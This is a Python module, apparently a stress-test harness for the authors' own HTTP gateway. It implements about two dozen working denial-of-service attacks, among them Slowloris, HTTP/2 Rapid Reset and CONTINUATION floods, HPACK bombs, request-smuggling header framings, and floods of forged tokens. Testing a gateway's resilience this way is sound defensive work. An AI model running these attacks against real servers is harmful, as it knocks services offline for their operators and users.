"""Attacks on the gate, each by one who has a certificate and a token of a registered system, unless it says otherwise.

An attack is a function of an `Attacker`. It does what it does until the time is over, and counts.
"""

import base64
import collections
import itertools
import os
import re
import select
import socket
import ssl
import time

import frames
from frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                    frame)
from measure import QUERY

SMALL, LARGE, UPLOAD = "/records/1k" + QUERY, "/file/1m" + QUERY, "/upload" + QUERY
BROKEN = (OSError, ssl.SSLError)


class Attacker:
    def __init__(self, target, until):
        self.target, self.until, self.counts = target, until, collections.Counter()
        self.tls = {protocol: self._context(protocol) for protocol in ("http/1.1", "h2")}

    def _context(self, protocol, shows=True):
        tls = ssl.create_default_context(cafile=self.target.ca)
        tls.set_alpn_protocols([protocol])
        if shows:
            tls.load_cert_chain(self.target.certificate, self.target.key)
        return tls

    def goes_on(self):
        return time.monotonic() < self.until

    def socket(self):
        return socket.socket()

    def tcp(self, receive=None, patience=5):
        raw = self.socket()
        raw.settimeout(patience)
        if receive:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            raw.connect((self.target.host, self.target.port))
        except OSError:
            raw.close()
            raise
        return raw

    def open(self, protocol="http/1.1", receive=None, tls=None):
        """A connection; none if the gate will not have it."""
        try:
            stream = (tls or self.tls[protocol]).wrap_socket(self.tcp(receive), server_hostname="localhost")
        except BROKEN:
            self.counts["connections refused"] += 1
            return None
        self.counts["connections"] += 1
        return stream

    def opened(self, each, protocol="http/1.1"):
        """`each` on one connection after the other while the time lasts."""
        while self.goes_on():
            stream = self.open(protocol)
            if stream:
                try:
                    each(stream)
                except BROKEN:
                    self.counts["connections ended by the gate"] += 1
                finally:
                    stream.close()

    def held(self, most, begin, each=None, protocol="http/1.1", receive=None):
        """Keeps up to `most` connections open, each begun by `begin`, and does `each` on all of them once a second."""
        streams = []
        while self.goes_on():
            began = time.monotonic()
            while len(streams) < most and self.goes_on() and time.monotonic() < began + 1:
                stream = self.open(protocol, receive)
                if not stream:
                    break
                streams.append(stream)
                self.held_on(streams, stream, begin)
            for stream in list(streams) if each else []:
                if self.goes_on():
                    self.held_on(streams, stream, each)
            time.sleep(max(0.0, min(began + 1, self.until) - time.monotonic()))
        self.counts["held at the end"] = len(streams)

    def held_on(self, streams, stream, do):
        try:
            do(stream)
        except BROKEN:
            self.lost(streams, stream)

    def lost(self, streams, stream):
        streams.remove(stream)
        stream.close()
        self.counts["connections ended by the gate"] += 1

    def get(self, path=SMALL, token=None, more="", method="GET"):
        return (f"{method} {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token or self.target.token}\r\n"
                f"{more}\r\n").encode()

    def dripping(self, byte):
        def drip(stream):
            stream.sendall(byte)
            self.counts["bytes"] += 1

        return drip

    def asking(self, path):
        def ask(stream):
            stream.sendall(self.get(path))
            self.counts["requests"] += 1

        return ask

    def answered(self, stream):
        """Reads what the gate says before it ends the connection, and counts the statuses."""
        stream.settimeout(2)
        whole = b""
        try:
            while part := stream.recv(65536):
                whole += part
        except BROKEN:
            pass
        self.statuses(whole)

    def saying(self, texts, what):
        """Says the next of `texts` and reads what comes of it."""
        def say(stream):
            self.counts[what] += 1
            try:
                stream.sendall(next(texts))
            except BROKEN:
                # It may be refused before it is taken.
                pass
            self.answered(stream)

        return say

    def statuses(self, whole):
        found = re.findall(rb"HTTP/1\.1 (\d{3})", whole)
        self.counts.update(f"answered {status.decode()}" for status in found)
        return len(found)

    def flood(self, request, depth=16):
        """Pipelined requests, as many as are answered."""
        def each(stream):
            while self.goes_on():
                stream.sendall(b"".join(request() for _ in range(depth)))
                self.counts["requests"] += depth
                missing, rest = depth, b""
                while missing > 0:
                    part = stream.recv(65536)
                    if not part:
                        raise ConnectionResetError
                    # A status line may lie across two parts.
                    whole, _, rest = (rest + part).rpartition(b"\n")
                    missing -= self.statuses(whole)

        self.opened(each)

    def frames(self, opening, each, batch=64, reads=True):
        """HTTP/2: what `each` gives for a round, until the gate ends the connection, and again."""
        def flood(stream):
            stream.sendall(opening)
            round = 0
            while self.goes_on():
                stream.sendall(b"".join(each(round + number) for number in range(batch)))
                round += batch
                self.counts["frames sent"] += batch
                while reads and (stream.pending() or select.select([stream], [], [], 0)[0]):
                    if not stream.recv(65536):
                        raise ConnectionResetError

        self.opened(flood, "h2")


def slow_heads(it):
    """Slowloris: a byte of a head a second, on as many connections as there can be."""
    it.held(1_300, lambda stream: stream.sendall(it.get()[:-2] + b"X-Slow: "), it.dripping(b"x"))


def slow_bodies(it):
    """A byte of a body a second."""
    head = it.get(UPLOAD, method="POST", more="Content-Type: application/json\r\nContent-Length: 1000000\r\n")
    it.held(400, lambda stream: stream.sendall(head), it.dripping(b" "))


def slow_readers(it):
    """Replies of 1 MiB that nobody reads, over HTTP/1.1."""
    it.held(400, it.asking(LARGE), receive=4096)


def shut_windows(it):
    """Replies of 1 MiB for windows of no byte, over HTTP/2, 100 on each connection."""
    requests = b"".join(frames.request(2 * number + 1, LARGE, it.target.token) for number in range(100))

    def begin(stream):
        stream.sendall(frames.opening([(frames.INITIAL_WINDOW, 0)]) + requests)
        it.counts["requests"] += 100

    it.held(40, begin, protocol="h2")


def first_flight(it):
    """The ClientHello that a client begins with."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        it.tls["http/1.1"].wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()


def half_handshakes(it):
    """Half a ClientHello, by one who need not have a certificate; as many as there can be from one address."""
    hello, held = first_flight(it), collections.deque()
    while it.goes_on():
        raw = it.tcp()
        it.counts["half handshakes"] += 1
        raw.sendall(hello[:len(hello) // 2])
        held.append(raw)
        if len(held) > 1_000:
            held.popleft().close()


def full_handshakes(it):
    """Handshakes with a good certificate, one after the other, and nothing asked."""
    it.opened(lambda stream: None)


def strangers(it):
    """Handshakes without a certificate."""
    tls = it._context("http/1.1", shows=False)
    while it.goes_on():
        it.counts["handshakes"] += 1
        try:
            # In TLS 1.3 the refusal comes after the client believes that it is done.
            with tls.wrap_socket(it.tcp(), server_hostname="localhost") as stream:
                stream.recv(1)
        except BROKEN:
            it.counts["refused"] += 1


def connections(it):
    """Connections of one address, as many as go in."""
    held = collections.deque()
    while it.goes_on():
        try:
            held.append(it.tcp())
            it.counts["connections"] += 1
        except BROKEN:
            it.counts["connections refused"] += 1
        if len(held) > 3_000:
            held.popleft().close()


def rapid_reset(it):
    """Requests that are given up at once (CVE-2023-44487)."""
    request = frames.head("GET", SMALL, it.target.token)
    give_up = (8).to_bytes(4, "big")
    each = lambda round: (frame(HEADERS, END_STREAM | END_HEADERS, 2 * round + 1, request)
                          + frame(RST_STREAM, 0, 2 * round + 1, give_up))
    it.frames(frames.opening(), each)


def made_you_reset(it):
    """Faults of a stream that make the gate reset it (CVE-2025-8671)."""
    request = frames.head("GET", SMALL, it.target.token)
    each = lambda round: (frame(HEADERS, END_STREAM | END_HEADERS, 2 * round + 1, request)
                          + frame(WINDOW_UPDATE, 0, 2 * round + 1, bytes(4)))
    it.frames(frames.opening(), each)


def continuations(it):
    """A head without an end (CVE-2024-27316)."""
    first = frames.head("GET", SMALL, it.target.token)
    each = lambda round: frame(CONTINUATION, 0, 1, b"") if round else frame(HEADERS, END_STREAM, 1, first)
    it.frames(frames.opening(), each)


def settings(it):
    """SETTINGS, each of which wants an answer (CVE-2019-9515)."""
    it.frames(frames.opening(), lambda round: frame(SETTINGS, 0, 0))


def pings(it):
    """PINGs whose answers nobody reads (CVE-2019-9512)."""
    it.frames(frames.opening(), lambda round: frame(PING, 0, 0, bytes(8)), reads=False)


def empty_data(it):
    """Data that are none, of an upload (CVE-2019-9518)."""
    first = frames.head("POST", UPLOAD, it.target.token) + frames.field("content-type", "application/json")
    each = lambda round: frame(DATA, 0, 1) if round else frame(HEADERS, END_HEADERS, 1, first)
    it.frames(frames.opening(), each)


def hpack_bombs(it):
    """A field of 3,900 bytes, named ten thousand times by a byte each."""
    bomb = (frames.head("GET", SMALL, it.target.token) + frames.field("x-bomb", "b" * 3_900, 0x40)
            + frames.THE_LAST_REMEMBERED * 10_000)

    def each(stream):
        stream.sendall(frames.opening() + frame(HEADERS, END_STREAM | END_HEADERS, 1, bomb))
        it.counts["bombs"] += 1
        it.answered(stream)

    it.opened(each, "h2")


def huge_heads(it):
    """Heads of a megabyte, and of ten thousand fields."""
    heads = itertools.cycle([it.get(more="X-Large: " + "l" * (1 << 20) + "\r\n"),
                             it.get(more="".join(f"x{n}: y\r\n" for n in range(10_000)))])
    it.opened(it.saying(heads, "heads"))


def tiny_chunks(it):
    """Uploads in chunks of one byte."""
    begin = it.get(UPLOAD, method="POST", more="Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n")
    chunks = b"1\r\n \r\n" * 2_000

    def each(stream):
        stream.sendall(begin)
        it.counts["uploads"] += 1
        while it.goes_on():
            stream.sendall(chunks)
            it.counts["chunks"] += 2_000

    it.opened(each)


def chunk_extensions(it):
    """Chunks with extensions of 16 KiB."""
    begin = it.get(UPLOAD, method="POST", more="Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n")
    chunk = b"1;" + b"e" * 16_384 + b"\r\n \r\n"
    it.opened(it.saying(itertools.repeat(begin + chunk * 10), "uploads"))


def smuggling(it):
    """Heads that two programs would read differently, each before a request that would be hidden."""
    framings = ["Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "Content-Length: 5\r\nContent-Length: 6\r\n",
                "Content-Length: +5\r\n", "Transfer-Encoding: xchunked\r\n", "Transfer-Encoding: chunked, chunked\r\n",
                "Transfer-Encoding : chunked\r\n", "Transfer-Encoding:\r\n chunked\r\n",
                "Transfer-Encoding: \x0bchunked\r\n", "X: y\nTransfer-Encoding: chunked\r\n", "Host: other\r\n",
                "Content_Length: 5\r\n", "X: y\rContent-Length: 5\r\n"]
    heads = [it.get(UPLOAD, method="POST", more=framing) + b"0\r\n\r\n" + it.get("/hidden") for framing in framings]
    it.opened(it.saying(itertools.cycle(heads), "heads"))


def gzip_bombs(it):
    """The platform answers with a gigabyte in a megabyte of gzip."""
    it.opened(it.saying(itertools.repeat(it.get("/bomb" + QUERY, more="Connection: close\r\n")), "requests"))


def hanging_platform(it):
    """The platform takes requests and never answers."""
    ask = it.asking("/hang" + QUERY)

    def again(stream):
        if select.select([stream], [], [], 0)[0]:
            it.statuses(stream.recv(65536))
            ask(stream)

    it.held(200, ask, again)


def dripping_platform(it):
    """The platform answers with two bytes a second."""
    def take(stream):
        if select.select([stream], [], [], 0)[0] and not stream.recv(65536):
            raise ConnectionResetError

    it.held(200, it.asking("/drip" + QUERY), take)


def denied(it):
    """Requests for which there is no grant."""
    it.flood(lambda: it.get("/refused/1k" + QUERY))


def limited(it):
    """Requests beyond the quota."""
    it.flood(lambda: it.get("/limited/1k" + QUERY))


def garbage_tokens(it):
    """Tokens with another signature each, all of which must be looked at."""
    signed = it.target.token.rpartition(".")[0]
    forged = lambda: f"{signed}.{base64.urlsafe_b64encode(os.urandom(64)).decode().rstrip('=')}"
    it.flood(lambda: it.get(token=forged()))


ALL = [slow_heads, slow_bodies, slow_readers, shut_windows, half_handshakes, full_handshakes, strangers, connections,
       rapid_reset, made_you_reset, continuations, settings, pings, empty_data, hpack_bombs, huge_heads, tiny_chunks,
       chunk_extensions, smuggling, gzip_bombs, hanging_platform, dripping_platform, denied, limited, garbage_tokens]
